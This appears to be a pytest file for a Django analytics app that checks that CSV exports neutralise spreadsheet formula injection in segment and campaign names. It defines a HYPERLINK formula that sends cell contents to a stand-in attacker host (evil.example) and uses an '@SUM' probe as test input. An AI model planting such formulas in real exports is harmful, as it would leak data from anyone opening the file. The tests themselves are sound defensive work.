"""The analytics CSVs are safe to open in a spreadsheet: a segment or campaign named like a
formula arrives as text, and the numbers beside it stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone

from segments.services import segment_create

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def csv_rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_a_segment_named_like_a_formula_is_text_in_the_lifetime_value_csv(
    api_as, marketer, customer_factory
) -> None:
    from interactions.services import purchase_record

    segment = segment_create(
        name="@SUM(1+1)",
        definition={"op": "and", "rules": [{"field": "tags", "op": "has_any", "value": ["vip"]}]},
    )
    buyer = customer_factory(email="ann@example.com", tags=["vip"])
    purchase_record(customer=buyer, amount=Decimal("160.00"), currency="EUR", recorded_by=None)

    [row] = csv_rows(
        api_as(marketer).get(
            reverse("api:analytics-lifetime-value"), {"segment": segment.pk, "format": "csv"}
        )
    )

    assert row["segment"] == "'@SUM(1+1)"
    assert row["lifetime_value"] == "160.00"
    assert row["customers"] == "1"


def test_a_campaign_named_like_a_formula_is_text_in_the_campaigns_csv(
    api_as, marketer, customer_factory
) -> None:
    from campaigns.models import Campaign
    from campaigns.services import campaign_create

    buyer = customer_factory(email="lead@example.com")
    campaign = campaign_create(
        name=HYPERLINK,
        customer_ids=[buyer.pk],
        variants=[{"name": "A", "split": 100, "subject": "Hi", "body_text": "Hello"}],
        cost=Decimal("120.00"),
        currency="EUR",
    )
    Campaign.objects.filter(pk=campaign.pk).update(state="sending", started_at=timezone.now())

    [row] = csv_rows(api_as(marketer).get(reverse("api:analytics-campaigns"), {"format": "csv"}))

    assert row["name"] == "'" + HYPERLINK
    assert row["cost"] == "120.00"
    assert row["campaign_id"] == str(campaign.pk)
